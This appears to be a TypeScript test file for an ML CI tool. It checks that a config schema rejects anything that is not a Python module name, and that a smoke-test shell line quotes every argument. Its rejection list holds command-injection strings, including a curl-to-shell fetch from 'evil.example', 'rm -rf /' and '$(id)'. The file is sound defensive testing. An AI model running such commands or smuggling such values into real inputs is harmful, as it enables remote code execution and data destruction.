/**
 * `families.<f>.smokeImports` ends up on the smoke test's shell line, which runs with the registry
 * login in its environment. Two guards, each tested alone: the config schema accepts only Python
 * module names, and the line quotes every argument anyway (lib/images/smokeTest.ts).
 */
import { strict as assert } from "assert";
import { spawnSync } from "child_process";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { parseStackConfig } from "../lib/config/config";
import { ConfigError } from "../lib/config/problems";
import { PYTHON_MODULE_NAME } from "../lib/config/schema";
import { shellQuote, smokeTestCommandLine, SMOKE_TEST_SCRIPT } from "../lib/images/smokeTest";
import { readStackConfigFile } from "../lib/stackPlan";

const ROOT = path.resolve(__dirname, "..");

/** The local stack's config with the cpu family's smokeImports replaced. */
function parseWithImports(imports: unknown[]) {
    const raw = readStackConfigFile(ROOT, "local") as Record<string, Record<string, Record<string, unknown>>>;
    raw.families.cpu.smokeImports = imports;
    return parseStackConfig(raw, { projectRoot: ROOT, env: {} });
}

/** Values a stack file could carry that are not module names (shell syntax, whitespace, bad dots). */
const BAD = ["torch;curl https://evil.example/x|sh", "torch && rm -rf /", "$(id)", "`id`", "torch|sh", "a b", "torch\nid", "torch'", 'torch"', "torch>out", "torch.", ".torch", "torch..nn", "1torch", "-c", "", "torch,id"];
const GOOD = ["torch", "torch.distributed", "habitat_sim", "_private", "dm_control", "A1.b2"];

describe("smokeImports: only Python module names reach the smoke test", () => {
    it("the schema accepts module names and dotted submodules", () => {
        for (const m of GOOD) assert.ok(PYTHON_MODULE_NAME.test(m), m);
        const config = parseWithImports(GOOD);
        assert.deepEqual(config.families.find((f) => f.name === "cpu")!.smokeImports, GOOD);
    });

    for (const bad of BAD) {
        it(`rejects ${JSON.stringify(bad)} naming the config path and the fix, before anything else runs`, () => {
            assert.equal(PYTHON_MODULE_NAME.test(bad), false);
            assert.throws(
                () => parseWithImports(["tensordict", bad]),
                (e: unknown) => {
                    assert.ok(e instanceof ConfigError, String(e));
                    assert.equal(
                        e.message,
                        `Invalid ml-ci-images stack config (1 problem):\n  - config mlci:families.cpu.smokeImports[1]: ${JSON.stringify(bad)} is not a Python module name. Fix: list importable module names only, e.g. [tensordict, habitat_sim, torch.distributed]`,
                    );
                    return true;
                },
            );
        });
    }
});

describe("the smoke test's shell line quotes every argument (defence in depth)", () => {
    /** What `sh -c line` passes to its command, one argument per line (printf stands in for the wrapper). */
    function argvThroughShell(line: string, cwd: string): string[] {
        const r = spawnSync("sh", ["-c", line], { cwd, encoding: "utf8", env: { PATH: process.env.PATH ?? "/usr/bin:/bin" } });
        assert.equal(r.status, 0, r.stderr);
        return r.stdout.split("\0").slice(0, -1);
    }

    it("a value the schema would refuse arrives as one literal argument, and runs nothing", () => {
        const dir = fs.mkdtempSync(path.join(os.tmpdir(), "mlci-quote-"));
        try {
            const evil = ["torch;touch pwned", "$(touch pwned2)", "`touch pwned3`", "a'b", 'a"b', "x y", "*", "torch|touch pwned4", "new\nline", ""];
            const flags = ["--size-budget-gb", "10", "--imports", evil.join(",")];
            const line = smokeTestCommandLine(["printf", "%s\\0"], "localhost:5000/ml-ci/cpu:py3.12-h0123456789ab@sha256:" + "a".repeat(64), flags);
            const argv = argvThroughShell(line, dir);
            assert.deepEqual(argv, ["bash", SMOKE_TEST_SCRIPT, "localhost:5000/ml-ci/cpu:py3.12-h0123456789ab@sha256:" + "a".repeat(64), ...flags]);
            assert.deepEqual(fs.readdirSync(dir), [], "the shell ran something it was only meant to pass on");
        } finally {
            fs.rmSync(dir, { recursive: true, force: true });
        }
    });

    it("ordinary arguments stay bare, so the usual line reads (and diffs) as before", () => {
        assert.equal(
            smokeTestCommandLine(["sh", "scripts/with-registry-auth.sh"], "localhost:5000/ml-ci/cpu:py3.12-h0123456789ab@sha256:" + "b".repeat(64), ["--size-budget-gb", "10", "--imports", "tensordict,pytest", "--torch-version", "2.15.0"]),
            `sh scripts/with-registry-auth.sh bash docker/test_image.sh localhost:5000/ml-ci/cpu:py3.12-h0123456789ab@sha256:${"b".repeat(64)} --size-budget-gb 10 --imports tensordict,pytest --torch-version 2.15.0`,
        );
        assert.equal(shellQuote("it's"), `'it'\\''s'`);
        assert.equal(shellQuote(""), "''");
    });
});
